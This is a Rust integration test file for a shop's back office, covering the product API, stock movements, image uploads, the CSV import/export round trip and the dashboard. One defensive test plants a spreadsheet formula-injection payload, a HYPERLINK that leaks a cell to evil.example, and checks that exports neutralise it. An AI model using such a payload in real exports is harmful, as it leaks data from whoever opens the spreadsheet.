//! The catalogue half of the back office (both engines): products with variants through the
//! staff API (search sees changes at once), stock adjustments as movements with the
//! low-stock alert, image uploads, the CSV export → import round trip (lossless, dry run
//! writes nothing, a bad file never half-imports), and the dashboard's figures and funnel.

use serde_json::{Value, json};

use crate::helpers::TestApp;
use crate::order_lifecycle::{order_body, staff};
use crate::shopper::{Reply, Shopper, scalar_i64, stocked_variants};

async fn first_slug(app: &TestApp, table: &str) -> String {
    let (s,): (String,) = app
        .db
        .one(
            &format!("SELECT slug FROM {table} ORDER BY id LIMIT 1"),
            services::args![],
        )
        .await
        .unwrap();
    s
}

fn tee(category: &str, brand: &str) -> Value {
    json!({
        "name": "Trail Tee",
        "description": "A light tee for long walks.",
        "category": category,
        "brand": brand,
        "variants": [
            {"sku": "tt-s", "options": {"size": "S"}, "price": 2500, "compareAt": 3000, "weightGrams": 180, "stock": 5},
            {"sku": "TT-M", "options": "size=M", "price": 2600, "stock": 0}
        ]
    })
}

/// A `multipart/form-data` body with one file field and text fields.
pub async fn upload(
    s: &Shopper,
    path: &str,
    file_field: &str,
    file: &[u8],
    fields: &[(&str, &str)],
) -> Reply {
    let boundary = "----storefront-test-boundary";
    let mut body = Vec::new();
    body.extend_from_slice(
        format!(
            "--{boundary}\r\nContent-Disposition: form-data; name=\"{file_field}\"; filename=\"upload\"\r\nContent-Type: application/octet-stream\r\n\r\n"
        )
        .as_bytes(),
    );
    body.extend_from_slice(file);
    body.extend_from_slice(b"\r\n");
    for (k, v) in fields {
        body.extend_from_slice(
            format!("--{boundary}\r\nContent-Disposition: form-data; name=\"{k}\"\r\n\r\n{v}\r\n")
                .as_bytes(),
        );
    }
    body.extend_from_slice(format!("--{boundary}--\r\n").as_bytes());
    s.send(
        s.client
            .post(format!("{}{path}", s.base))
            .header(
                "content-type",
                format!("multipart/form-data; boundary={boundary}"),
            )
            // A refused upload is answered before its body is read and the server then drops
            // the connection: never reuse it for the next request (that failed now and then
            // with "broken pipe").
            .header("connection", "close")
            .body(body),
    )
    .await
}

async fn search_slugs(s: &Shopper, q: &str) -> Vec<String> {
    let r = s.get(&format!("/api/products/search?q={q}")).await;
    assert_eq!(r.status, 200, "{}", r.body);
    r.body["products"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|p| p["slug"].as_str().map(str::to_string))
        .collect()
}

async fn staff_manage_products_through_the_api(app: TestApp) {
    let (category, brand) = (
        first_slug(&app, "categories").await,
        first_slug(&app, "brands").await,
    );
    let admin = staff(&app).await;
    let shopper = Shopper::new(&app);
    let r = shopper
        .post_json("/api/products", tee(&category, &brand))
        .await;
    assert_eq!(r.status, 401, "{}", r.body);

    let r = admin
        .post_json("/api/products", tee(&category, &brand))
        .await;
    assert_eq!(r.status, 201, "{}", r.body);
    assert_eq!(r.body["slug"], "trail-tee");
    assert_eq!(r.body["variantsCreated"], 2);
    let id = r.body["id"].as_i64().unwrap();
    // Search and the product API see it at once.
    assert!(
        search_slugs(&shopper, "trail")
            .await
            .contains(&"trail-tee".to_string())
    );
    let r = shopper.get(&format!("/api/products/{id}")).await;
    assert_eq!(r.status, 200, "{}", r.body);
    let text = r.body.to_string();
    assert!(text.contains("TT-S") && text.contains("TT-M"), "{text}");

    // Refusals, each with a clear message; nothing changes.
    let products = || async { scalar_i64(&app.db, "SELECT COUNT(*) FROM products").await };
    let before = products().await;
    let mut dup = tee(&category, &brand);
    dup["name"] = json!("Dup Tee");
    dup["variants"][1]["sku"] = json!("TT-S");
    let r = admin.post_json("/api/products", dup).await;
    assert_eq!(r.status, 422, "{}", r.body);
    assert!(r.message().contains("used twice"), "{}", r.message());
    let mut taken = tee(&category, &brand);
    taken["name"] = json!("Other Tee");
    let r = admin.post_json("/api/products", taken).await;
    assert_eq!(r.status, 409, "{}", r.body);
    assert!(
        r.message().contains("belongs to another product"),
        "{}",
        r.message()
    );
    let r = admin
        .post_json("/api/products", tee(&category, &brand))
        .await;
    assert_eq!(r.status, 409, "same slug: {}", r.body);
    for (patch, field) in [
        (json!({"category": "no-such-category"}), "category"),
        (json!({"name": "  "}), "name"),
        (json!({"variants": []}), "variants"),
        (json!({"type": "SERVICE"}), "kind"),
        (json!({"variants": [{"sku": "X-1", "price": -5}]}), "price"),
        (
            json!({"variants": [{"sku": "X-1", "price": 5, "options": {"size": "S"}}, {"sku": "X-2", "price": 5, "options": {"colour": "Red"}}]}),
            "attributes",
        ),
    ] {
        let mut body = tee(&category, &brand);
        body["name"] = json!("Refused Tee");
        for (k, v) in patch.as_object().unwrap() {
            body[k] = v.clone();
        }
        let r = admin.post_json("/api/products", body).await;
        assert_eq!(r.status, 422, "{patch}: {}", r.body);
        assert_eq!(r.body["error"]["field"], field, "{patch}: {}", r.body);
    }
    let r = admin
        .send(
            admin
                .client
                .post(format!("{}/api/products", admin.base))
                .header("content-type", "application/json")
                .body("{not json"),
        )
        .await;
    assert_eq!(r.status, 400, "{}", r.body);
    assert_eq!(
        products().await,
        before,
        "a refused write created a product"
    );

    // A digital product counts no stock unless told to.
    let mut ebook = tee(&category, &brand);
    ebook["name"] = json!("Field Guide E-book");
    ebook["type"] = json!("DIGITAL");
    ebook["variants"] = json!([{"sku": "EB-1", "price": 900}]);
    let r = admin.post_json("/api/products", ebook).await;
    assert_eq!(r.status, 201, "{}", r.body);
    let (tracked,): (bool,) = app
        .db
        .one(
            "SELECT track_inventory FROM product_variants WHERE sku = 'EB-1'",
            services::args![],
        )
        .await
        .unwrap();
    assert!(!tracked, "a new digital variant tracks no stock");

    // Replace: new price, a third variant, TT-M left out (archived, not deleted).
    let mut body = tee(&category, &brand);
    body["variants"] = json!([
        {"sku": "TT-S", "options": {"size": "S"}, "price": 2700},
        {"sku": "TT-L", "options": {"size": "L"}, "price": 2800, "stock": 3}
    ]);
    let r = admin.put_json(&format!("/api/products/{id}"), body).await;
    assert_eq!(r.status, 200, "{}", r.body);
    assert_eq!(r.body["variantsUpdated"], 1);
    assert_eq!(r.body["variantsCreated"], 1);
    let (price, m_active): (i64, bool) = app
        .db
        .one(
            "SELECT (SELECT price_amount FROM product_variants WHERE sku = 'TT-S'),
                    (SELECT is_active FROM product_variants WHERE sku = 'TT-M')",
            services::args![],
        )
        .await
        .unwrap();
    assert_eq!((price, m_active), (2700, false));
    let r = admin
        .put_json("/api/products/999999", tee(&category, &brand))
        .await;
    assert_eq!(r.status, 404, "{}", r.body);

    // Archive: gone from the shop and search, kept in the database.
    let r = shopper.delete(&format!("/api/products/{id}")).await;
    assert_eq!(r.status, 401);
    let r = admin.delete(&format!("/api/products/{id}")).await;
    assert_eq!(r.status, 204, "{}", r.body);
    assert!(
        !search_slugs(&shopper, "trail")
            .await
            .contains(&"trail-tee".to_string())
    );
    assert_eq!(
        shopper.get(&format!("/api/products/{id}")).await.status,
        404
    );
    let audits = scalar_i64(
        &app.db,
        "SELECT COUNT(*) FROM audit_events WHERE entity_type = 'product' AND action IN ('product.create', 'product.update', 'product.archive')",
    )
    .await;
    assert_eq!(audits, 4, "tee create, e-book create, update, archive");
}

async fn stock_adjustments_are_movements_and_alert_staff_once(app: TestApp) {
    let (category, brand) = (
        first_slug(&app, "categories").await,
        first_slug(&app, "brands").await,
    );
    let admin = staff(&app).await;
    let mut body = tee(&category, &brand);
    body["variants"] = json!([{"sku": "TT-S", "price": 2500, "stock": 10, "lowStockThreshold": 3}]);
    let r = admin.post_json("/api/products", body).await;
    assert_eq!(r.status, 201, "{}", r.body);
    let id = r.body["id"].as_i64().unwrap();
    let path = format!("/api/products/{id}/stock");
    let on_hand = || async {
        scalar_i64(
            &app.db,
            "SELECT CAST(on_hand AS BIGINT) FROM inventory i JOIN product_variants v ON v.id = i.variant_id WHERE v.sku = 'TT-S'",
        )
        .await
    };
    let moves = || async {
        scalar_i64(
            &app.db,
            "SELECT COUNT(*) FROM inventory_movements m JOIN product_variants v ON v.id = m.variant_id WHERE v.sku = 'TT-S'",
        )
        .await
    };
    let alerts = || async {
        scalar_i64(
            &app.db,
            "SELECT COUNT(*) FROM outbox WHERE topic = 'inventory.low_stock'",
        )
        .await
    };
    let moves0 = moves().await;
    // Removing more than is on hand: refused with the reason, nothing written.
    let r = admin
        .post_json(
            &path,
            json!({"sku": "TT-S", "delta": -11, "reason": "damage"}),
        )
        .await;
    assert_eq!(r.status, 409, "{}", r.body);
    assert!(r.message().contains("only 10 on hand"), "{}", r.message());
    for (bad, field) in [
        (
            json!({"sku": "TT-S", "delta": -1, "reason": "restock"}),
            "delta",
        ),
        (
            json!({"sku": "TT-S", "delta": 2, "reason": "damage"}),
            "delta",
        ),
        (
            json!({"sku": "TT-S", "delta": 0, "reason": "correction"}),
            "delta",
        ),
        (
            json!({"sku": "TT-S", "delta": 1, "reason": "gift"}),
            "reason",
        ),
        (
            json!({"sku": "TT-S", "delta": i64::MIN, "reason": "damage"}),
            "delta",
        ),
        (
            json!({"sku": "TT-S", "delta": i64::MAX, "reason": "restock"}),
            "delta",
        ),
    ] {
        let r = admin.post_json(&path, bad.clone()).await;
        assert_eq!(r.status, 422, "{bad}: {}", r.body);
        assert_eq!(r.body["error"]["field"], field, "{bad}");
    }
    let r = admin
        .post_json(
            &path,
            json!({"sku": "NOPE", "delta": 1, "reason": "restock"}),
        )
        .await;
    assert_eq!(r.status, 404, "{}", r.body);
    assert_eq!((on_hand().await, moves().await), (10, moves0));

    // 10 → 4: above the threshold, no alert.
    let r = admin
        .post_json(
            &path,
            json!({"sku": "TT-S", "delta": -6, "reason": "damage", "note": "dropped"}),
        )
        .await;
    assert_eq!(r.status, 200, "{}", r.body);
    assert_eq!(r.body["available"], 4);
    assert_eq!(alerts().await, 0);
    // 4 → 3: at the threshold, one mail per staff member (one admin here), once.
    let r = admin
        .post_json(
            &path,
            json!({"sku": "TT-S", "delta": -1, "reason": "correction"}),
        )
        .await;
    assert_eq!(r.status, 200, "{}", r.body);
    assert_eq!(alerts().await, 1);
    let r = admin
        .post_json(
            &path,
            json!({"sku": "TT-S", "delta": -1, "reason": "correction"}),
        )
        .await;
    assert_eq!(r.status, 200, "{}", r.body);
    assert_eq!(alerts().await, 1, "still low: no second mail");
    // Back above (re-arms), then down again: a second alert.
    admin
        .post_json(
            &path,
            json!({"sku": "TT-S", "delta": 10, "reason": "restock"}),
        )
        .await;
    assert_eq!(alerts().await, 1);
    admin
        .post_json(
            &path,
            json!({"sku": "TT-S", "delta": -10, "reason": "damage"}),
        )
        .await;
    assert_eq!(alerts().await, 2);
    assert_eq!(on_hand().await, 2);
    let reasons: Vec<(String, i64)> = app
        .db
        .all(
            "SELECT m.reason, CAST(m.delta AS BIGINT) FROM inventory_movements m
               JOIN product_variants v ON v.id = m.variant_id
              WHERE v.sku = 'TT-S' ORDER BY m.id",
            services::args![],
        )
        .await
        .unwrap();
    assert_eq!(
        reasons,
        vec![
            ("INITIAL".to_string(), 10),
            ("DAMAGED".to_string(), -6),
            ("ADJUSTMENT".to_string(), -1),
            ("ADJUSTMENT".to_string(), -1),
            ("RESTOCK".to_string(), 10),
            ("DAMAGED".to_string(), -10),
        ]
    );
    // Through the admin server function too, and the dashboard badge counts it.
    let vid = scalar_i64(
        &app.db,
        "SELECT id FROM product_variants WHERE sku = 'TT-S'",
    )
    .await;
    let r = admin
        .server_fn(
            "admin/products/stock",
            &[
                ("variant_id", &vid.to_string()),
                ("delta", "-3"),
                ("reason", "damage"),
            ],
        )
        .await;
    assert_eq!(r.status, 409, "{}", r.body);
    let r = admin
        .server_fn(
            "admin/products/stock",
            &[
                ("variant_id", &vid.to_string()),
                ("delta", "-9223372036854775808"),
                ("reason", "damage"),
            ],
        )
        .await;
    assert_eq!(r.status, 422, "{}", r.body);
    let r = admin
        .server_fn(
            "admin/products/threshold",
            &[("variant_id", &vid.to_string()), ("threshold", "1")],
        )
        .await;
    assert_eq!(r.status, 200, "{}", r.body);
    let d = admin.get("/_fn/admin/dashboard").await;
    assert_eq!(d.status, 200, "{}", d.body);
    assert!(d.body["low_stock_count"].as_i64().unwrap() >= 0);
}

async fn untracked_variants_never_alert_low_stock(app: TestApp) {
    let (category, brand) = (
        first_slug(&app, "categories").await,
        first_slug(&app, "brands").await,
    );
    let admin = staff(&app).await;
    // Two variants with nothing on hand: one counts no stock (like a download), one does.
    let mut body = tee(&category, &brand);
    body["variants"] = json!([
        {"sku": "TT-S", "options": {"size": "S"}, "price": 2500, "stock": 0, "trackInventory": false},
        {"sku": "TT-M", "options": {"size": "M"}, "price": 2600, "stock": 0}
    ]);
    let r = admin.post_json("/api/products", body).await;
    assert_eq!(r.status, 201, "{}", r.body);
    let id = r.body["id"].as_i64().unwrap();
    let (counts,): (bool,) = app
        .db
        .one(
            "SELECT track_inventory FROM product_variants WHERE sku = 'TT-S'",
            services::args![],
        )
        .await
        .unwrap();
    assert!(!counts, "TT-S tracks no stock");
    let untracked = scalar_i64(
        &app.db,
        "SELECT id FROM product_variants WHERE sku = 'TT-S'",
    )
    .await;
    let tracked = scalar_i64(
        &app.db,
        "SELECT id FROM product_variants WHERE sku = 'TT-M'",
    )
    .await;
    let alerts = |variant: i64| {
        let db = app.db.clone();
        async move {
            scalar_i64(
                &db,
                &format!(
                    "SELECT COUNT(*) FROM outbox WHERE topic = 'inventory.low_stock'
                        AND dedupe_key LIKE 'low-stock:{variant}:%'"
                ),
            )
            .await
        }
    };

    // The job's sweep over all variants: only the tracked one is low.
    services::back_office::low_stock_sweep(&app.db)
        .await
        .unwrap();
    assert_eq!(
        alerts(untracked).await,
        0,
        "an untracked variant is never low"
    );
    assert_eq!(alerts(tracked).await, 1, "a tracked variant at 0 is low");

    // Stock booked by hand on the untracked variant, down to 0 again: still no alert.
    let path = format!("/api/products/{id}/stock");
    let r = admin
        .post_json(
            &path,
            json!({"sku": "TT-S", "delta": 1, "reason": "restock"}),
        )
        .await;
    assert_eq!(r.status, 200, "{}", r.body);
    let r = admin
        .post_json(
            &path,
            json!({"sku": "TT-S", "delta": -1, "reason": "damage"}),
        )
        .await;
    assert_eq!(r.status, 200, "{}", r.body);
    services::back_office::low_stock_sweep(&app.db)
        .await
        .unwrap();
    assert_eq!(
        alerts(untracked).await,
        0,
        "an untracked variant is never low"
    );
    assert_eq!(alerts(tracked).await, 1, "still low: no second mail");
}

async fn images_are_checked_and_served(app: TestApp) {
    let admin = staff(&app).await;
    let (category, brand) = (
        first_slug(&app, "categories").await,
        first_slug(&app, "brands").await,
    );
    let r = admin
        .post_json("/api/products", tee(&category, &brand))
        .await;
    let id = r.body["id"].as_i64().unwrap();
    let path = format!("/api/products/{id}/images");
    let png: Vec<u8> = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR-test-image".to_vec();
    let r = upload(&admin, &path, "image", &png, &[("alt", "Front")]).await;
    assert_eq!(r.status, 201, "{}", r.body);
    let url = r.body["url"].as_str().unwrap().to_string();
    assert!(url.starts_with("/media/") && url.ends_with(".png"), "{url}");
    let served = admin
        .client
        .get(format!("{}{url}", admin.base))
        .send()
        .await
        .unwrap();
    assert_eq!(served.status(), 200);
    assert_eq!(served.bytes().await.unwrap().to_vec(), png);
    let r = upload(
        &admin,
        &path,
        "image",
        b"<svg xmlns='http://www.w3.org/2000/svg'/>",
        &[],
    )
    .await;
    assert_eq!(r.status, 422, "{}", r.body);
    let big = vec![0xFFu8; 6 * 1024 * 1024];
    let r = upload(&admin, &path, "image", &big, &[]).await;
    assert!((400..500).contains(&r.status), "{}: {}", r.status, r.body);
    let shopper = Shopper::new(&app);
    let r = upload(&shopper, &path, "image", &png, &[]).await;
    assert_eq!(r.status, 401, "{}", r.body);
    let images = scalar_i64(
        &app.db,
        &format!("SELECT COUNT(*) FROM product_images WHERE product_id = {id}"),
    )
    .await;
    assert_eq!(images, 1);
    // The product page now shows it.
    let r = shopper.get(&format!("/api/products/{id}")).await;
    assert!(r.body.to_string().contains(&url), "{}", r.body);
}

async fn export(s: &Shopper) -> String {
    let r = s
        .client
        .get(format!("{}/admin/export/products.csv", s.base))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    r.text().await.unwrap()
}

async fn csv_round_trip_is_lossless(app: TestApp) {
    let admin = staff(&app).await;
    let (category, brand) = (
        first_slug(&app, "categories").await,
        first_slug(&app, "brands").await,
    );
    // Make the catalogue less uniform: an archived variant, a compare-at price, an image.
    let r = admin
        .post_json("/api/products", tee(&category, &brand))
        .await;
    let id = r.body["id"].as_i64().unwrap();
    let mut body = tee(&category, &brand);
    body["variants"] =
        json!([{"sku": "TT-S", "options": {"size": "S"}, "price": 2500, "compareAt": 3000}]);
    body["images"] = json!(["/images/products/trail-tee.svg"]);
    assert_eq!(
        admin
            .put_json(&format!("/api/products/{id}"), body)
            .await
            .status,
        200
    );

    let a = export(&admin).await;
    let lines = a.lines().count();
    assert!(lines > 100, "{lines} lines");
    assert!(a.starts_with("product_slug,product_name,description,type,category,brand,active,featured,images,sku,options,price,compare_at,currency,weight_grams,track_inventory,variant_active,stock,low_stock_threshold"));
    let products0 = scalar_i64(&app.db, "SELECT COUNT(*) FROM products").await;

    // Dry run: every row checked, nothing written.
    let r = upload(
        &admin,
        "/admin/import/products",
        "file",
        a.as_bytes(),
        &[("dry_run", "1")],
    )
    .await;
    assert_eq!(r.status, 200, "{}", r.body);
    assert_eq!(r.body["errors"], json!([]), "{}", r.body);
    assert_eq!(r.body["applied"], false);
    assert_eq!(r.body["products_created"], 0);
    assert_eq!(r.body["products_updated"].as_i64().unwrap(), products0);
    assert_eq!(export(&admin).await, a);

    // The real import of the export changes nothing: the round trip is lossless.
    let moves0 = scalar_i64(&app.db, "SELECT COUNT(*) FROM inventory_movements").await;
    let r = upload(&admin, "/admin/import/products", "file", a.as_bytes(), &[]).await;
    assert_eq!(r.status, 200, "{}", r.body);
    assert_eq!(r.body["applied"], true, "{}", r.body);
    assert_eq!(r.body["rows"].as_i64().unwrap() as usize, lines - 1);
    let b = export(&admin).await;
    assert_eq!(b, a, "export → import → export differs");
    assert_eq!(
        scalar_i64(&app.db, "SELECT COUNT(*) FROM inventory_movements").await,
        moves0,
        "an unchanged stock figure booked a movement"
    );

    // Changes apply: a price, stock, and a new product.
    let changed = a.replacen(",TT-S,size=S,25.00,", ",TT-S,size=S,26.50,", 1)
        + &format!(
            "new-mug,New Mug,,PHYSICAL,{category},{brand},yes,no,,NM-1,,12.00,,USD,300,yes,yes,7,2\n"
        );
    let r = upload(
        &admin,
        "/admin/import/products",
        "file",
        changed.as_bytes(),
        &[],
    )
    .await;
    assert_eq!(r.body["applied"], true, "{}", r.body);
    assert_eq!(r.body["products_created"], 1);
    let (price, stock): (i64, i64) = app
        .db
        .one(
            "SELECT (SELECT price_amount FROM product_variants WHERE sku = 'TT-S'),
                    (SELECT CAST(on_hand AS BIGINT) FROM inventory i JOIN product_variants v ON v.id = i.variant_id WHERE v.sku = 'NM-1')",
            services::args![],
        )
        .await
        .unwrap();
    assert_eq!((price, stock), (2650, 7));
    let c = export(&admin).await;

    // A bad file never half-imports: good rows before the bad ones are not written either.
    let bad = format!(
        "{}\nnew-lamp,New Lamp,,PHYSICAL,,,yes,no,,NL-1,,30.00,,USD,0,yes,yes,1,5\n\
         new-lamp,,,,,,,,,NL-2,,abc,,USD,0,yes,yes,1,5\n\
         other,Other,,PHYSICAL,no-such-category,,yes,no,,OT-1,,5.00,,USD,0,yes,yes,1,5\n",
        c.lines().next().unwrap()
    );
    let r = upload(
        &admin,
        "/admin/import/products",
        "file",
        bad.as_bytes(),
        &[],
    )
    .await;
    assert_eq!(r.status, 200, "{}", r.body);
    assert_eq!(r.body["applied"], false);
    let errors = r.body["errors"].as_array().unwrap();
    assert_eq!(errors.len(), 1, "{}", r.body);
    assert_eq!(errors[0]["line"], 3);
    assert!(
        errors[0]["message"].as_str().unwrap().starts_with("price"),
        "{}",
        r.body
    );
    let bad2 = format!(
        "{}\nnew-lamp,New Lamp,,PHYSICAL,,,yes,no,,NL-1,,30.00,,USD,0,yes,yes,1,5\n\
         other,Other,,PHYSICAL,no-such-category,,yes,no,,OT-1,,5.00,,USD,0,yes,yes,1,5\n",
        c.lines().next().unwrap()
    );
    let r = upload(
        &admin,
        "/admin/import/products",
        "file",
        bad2.as_bytes(),
        &[],
    )
    .await;
    let errors = r.body["errors"].as_array().unwrap();
    assert_eq!(errors.len(), 1, "{}", r.body);
    assert_eq!(errors[0]["line"], 3);
    assert!(
        errors[0]["message"]
            .as_str()
            .unwrap()
            .contains("no-such-category"),
        "{}",
        r.body
    );
    assert_eq!(r.body["applied"], false);
    assert_eq!(export(&admin).await, c, "a refused import wrote something");
    let r = upload(
        &admin,
        "/admin/import/products",
        "file",
        b"name,price\nx,1\n",
        &[],
    )
    .await;
    assert!(
        r.body["errors"]
            .as_array()
            .unwrap()
            .iter()
            .all(|e| e["line"] == 1),
        "{}",
        r.body
    );
    // A browser's form post gets a page showing progress, then the report on /admin/import.
    let boundary = "----b";
    let body = format!(
        "--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"p.csv\"\r\nContent-Type: text/csv\r\n\r\n{c}\r\n--{boundary}\r\nContent-Disposition: form-data; name=\"dry_run\"\r\n\r\n1\r\n--{boundary}--\r\n"
    );
    let res = admin
        .client
        .post(format!("{}/admin/import/products", admin.base))
        .header("accept", "text/html")
        .header(
            "content-type",
            format!("multipart/form-data; boundary={boundary}"),
        )
        .body(body)
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 200);
    assert!(
        res.headers().get("content-encoding").is_none(),
        "progress is not compressed"
    );
    let page = res.text().await.unwrap();
    let rows = c.lines().count() - 1;
    assert!(
        page.contains(&format!("Checked 0 of {rows} rows")),
        "{page}"
    );
    assert!(
        page.contains(&format!("Checked {rows} of {rows} rows")),
        "{page}"
    );
    assert!(page.contains("url=/admin/import"), "{page}");
    let report = admin.get("/_fn/admin/import/report").await;
    assert_eq!(report.status, 200, "{}", report.body);
    assert_eq!(report.body["dry_run"], true, "{}", report.body);
    assert_eq!(report.body["errors"], json!([]), "{}", report.body);
    let (_, html) = admin.page("/admin/import").await;
    assert!(html.contains("Dry run: no problems found"), "report shown");
    let shopper = Shopper::new(&app);
    let r = upload(
        &shopper,
        "/admin/import/products",
        "file",
        a.as_bytes(),
        &[],
    )
    .await;
    assert_eq!(r.status, 401);
    assert_eq!(
        shopper
            .client
            .get(format!("{}/admin/export/products.csv", shopper.base))
            .send()
            .await
            .unwrap()
            .status(),
        401
    );
}

async fn dashboard_counts_paid_orders_and_the_funnel(app: TestApp) {
    let admin = staff(&app).await;
    let d = admin.get("/_fn/admin/dashboard").await;
    assert_eq!(d.status, 200, "{}", d.body);
    assert_eq!(d.body["periods"][0]["orders"], 0);

    // A shopper views a product, adds it, checks out and pays.
    let v = stocked_variants(&app.db, 1, 10).await[0];
    let (slug,): (String,) = app
        .db
        .one(
            "SELECT p.slug FROM products p JOIN product_variants v ON v.product_id = p.id WHERE v.id = $1",
            services::args![v],
        )
        .await
        .unwrap();
    let s = Shopper::new(&app);
    let r = s
        .server_fn("catalog/product", &[("slug", slug.as_str())])
        .await;
    assert_eq!(r.status, 200, "{}", r.body);
    assert_eq!(s.add(v, json!(2)).await.status, 200);
    let r = s
        .post_json("/api/orders", order_body("ann@example.com", None))
        .await;
    assert_eq!(r.status, 201, "{}", r.body);
    let number = r.body["number"].as_str().unwrap().to_string();
    let total = r.body["totals"]["total"]["amount"].as_i64().unwrap();
    // A visitor who only looked.
    let looker = Shopper::new(&app);
    looker
        .server_fn("catalog/product", &[("slug", slug.as_str())])
        .await;

    // Events are written in the background: wait for them.
    let mut d = admin.get("/_fn/admin/dashboard").await;
    for _ in 0..50 {
        if d.body["funnel"]["purchased"] == 1 && d.body["funnel"]["viewed"] == 2 {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
        d = admin.get("/_fn/admin/dashboard").await;
    }
    assert_eq!(
        d.body["funnel"],
        json!({"viewed": 2, "added": 1, "checkout": 1, "purchased": 1}),
        "{}",
        d.body
    );
    let today = &d.body["periods"][0];
    assert_eq!(today["orders"], 1, "{}", d.body);
    assert_eq!(today["revenue_minor"], total, "{}", d.body);
    assert_eq!(d.body["periods"][2]["revenue_minor"], total);
    let daily = d.body["daily"].as_array().unwrap();
    assert_eq!(daily.len(), 30);
    assert_eq!(daily[29]["revenue_minor"], total);
    assert_eq!(d.body["recent_orders"][0]["number"], number);
    assert_eq!(d.body["top_products"][0]["units"], 2);
    // The page renders the chart on the server.
    let (status, html) = admin.page("/admin").await;
    assert_eq!(status, 200);
    assert!(html.contains("data-testid=\"revenue-chart\""), "no chart");
    assert!(html.contains(&number));
    // Cancelled orders leave the revenue.
    let r = admin
        .server_fn(
            "admin/orders/cancel",
            &[("number", number.as_str()), ("reason", "test")],
        )
        .await;
    assert_eq!(r.status, 200, "{}", r.body);
    let d = admin.get("/_fn/admin/dashboard").await;
    assert_eq!(d.body["periods"][0]["revenue_minor"], 0, "{}", d.body);
    // Shoppers cannot read it.
    assert_eq!(s.get("/_fn/admin/dashboard").await.status, 401);
    s.register("ann@example.com").await;
    assert_eq!(s.get("/_fn/admin/dashboard").await.status, 403);
}

/// Issue 19.7: a cell that starts like a formula (`= + - @`, tab, CR) leaves as text in both
/// exports, and the product export still imports back unchanged.
async fn exported_cells_never_run_as_formulas(app: TestApp) {
    let admin = staff(&app).await;
    let (category, brand) = (
        first_slug(&app, "categories").await,
        first_slug(&app, "brands").await,
    );
    let formula = r#"=HYPERLINK("http://evil.example/?leak="&A1,"Open")"#;
    let mut body = tee(&category, &brand);
    body["name"] = json!(formula);
    body["description"] = json!("@SUM(1+1)");
    let r = admin.post_json("/api/products", body).await;
    assert_eq!(r.status, 201, "{}", r.body);
    let id = r.body["id"].as_i64().unwrap();
    let slug = r.body["slug"].as_str().unwrap().to_string();

    let a = export(&admin).await;
    let line = a
        .lines()
        .find(|l| l.starts_with(&slug))
        .expect("the product's row");
    assert!(line.contains(r#""'=HYPERLINK(""http"#), "{line}");
    assert!(line.contains(",'@SUM(1+1),"), "{line}");
    for cell in a.lines().flat_map(|l| l.split(',')) {
        let c = cell.trim_start_matches('"');
        assert!(
            !c.starts_with(['=', '+', '@', '\t', '\r']),
            "a cell starts like a formula: {cell:?}"
        );
    }
    // The round trip keeps the names exactly.
    let r = upload(&admin, "/admin/import/products", "file", a.as_bytes(), &[]).await;
    assert_eq!(r.body["applied"], true, "{}", r.body);
    let (name, description): (String, String) = app
        .db
        .one(
            &format!("SELECT name, description FROM products WHERE id = {id}"),
            services::args![],
        )
        .await
        .unwrap();
    assert_eq!(
        (name.as_str(), description.as_str()),
        (formula, "@SUM(1+1)")
    );
    assert_eq!(export(&admin).await, a);

    // The orders export: a shopper buys it; the line's product name is text too.
    let variant: (i64,) = app
        .db
        .one(
            &format!("SELECT id FROM product_variants WHERE product_id = {id} ORDER BY id LIMIT 1"),
            services::args![],
        )
        .await
        .unwrap();
    let shopper = Shopper::new(&app);
    assert_eq!(shopper.add(variant.0, json!(1)).await.status, 200);
    let r = shopper
        .post_json("/api/orders", order_body("ann@example.com", None))
        .await;
    assert!(r.status < 300, "{}", r.body);
    let orders = admin
        .client
        .get(format!("{}/admin/export/orders.csv", admin.base))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(orders.contains(r#""'=HYPERLINK(""http"#), "{orders}");
    for cell in orders.lines().flat_map(|l| l.split(',')) {
        let c = cell.trim_start_matches('"');
        assert!(
            !c.starts_with(['=', '+', '@', '\t', '\r']),
            "an orders cell starts like a formula: {cell:?}"
        );
    }
}

both_backends!(
    exported_cells_never_run_as_formulas,
    staff_manage_products_through_the_api,
    stock_adjustments_are_movements_and_alert_staff_once,
    untracked_variants_never_alert_low_stock,
    images_are_checked_and_served,
    csv_round_trip_is_lossless,
    dashboard_counts_paid_orders_and_the_funnel,
);
